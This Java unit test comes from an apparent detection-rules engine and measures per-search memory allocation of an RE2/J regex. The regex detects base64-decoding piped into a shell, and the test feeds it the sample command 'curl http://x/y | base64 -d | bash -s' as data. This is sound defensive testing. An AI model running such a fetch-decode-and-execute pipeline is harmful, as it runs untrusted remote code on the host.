package io.vigie.rules.compile;

import com.google.re2j.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

import java.lang.management.ManagementFactory;
import java.nio.charset.StandardCharsets;

import static org.junit.jupiter.api.Assertions.assertTrue;

/** Reports (and bounds) what an RE2/J search costs in allocation per evaluated value. */
class RegexAllocationTest {
    @Test
    @Timeout(60)
    void shouldReportRegexAllocation() {
        final Matchers.Regex re = new Matchers.Regex(Pattern.compile("(?i)\\bbase64\\s+-d\\b.*\\|\\s*(ba)?sh"), 0);
        final byte[] v = "curl http://x/y | base64 -d | bash -s".getBytes(StandardCharsets.UTF_8);
        final byte[] w = "nothing to see here, move along please".getBytes(StandardCharsets.UTF_8);
        final EvalScratch s = new EvalScratch();
        int hits = 0;
        for (int i = 0; i < 200_000; i++) {
            hits += re.test((i & 1) == 0 ? v : w, 0, v.length, s) ? 1 : 0;
        }
        final com.sun.management.ThreadMXBean mx =
            (com.sun.management.ThreadMXBean) ManagementFactory.getThreadMXBean();
        final long tid = Thread.currentThread().getId();
        final long before = mx.getThreadAllocatedBytes(tid);
        for (int i = 0; i < 100_000; i++) {
            hits += re.test((i & 1) == 0 ? v : w, 0, v.length, s) ? 1 : 0;
        }
        final long bytes = mx.getThreadAllocatedBytes(tid) - before;
        System.out.println("re2j: " + bytes / 100_000.0 + " bytes per evaluated value (hits " + hits + ")");
        assertTrue(hits > 0);
        // RE2/J wraps its input per search (about 50 bytes); regex tests run last in a selection, after the
        // prefilter and the cheaper tests, so the detector's steady state stays allocation-free in practice.
        assertTrue(bytes / 100_000 < 256, "bytes per search " + bytes / 100_000);
    }
}
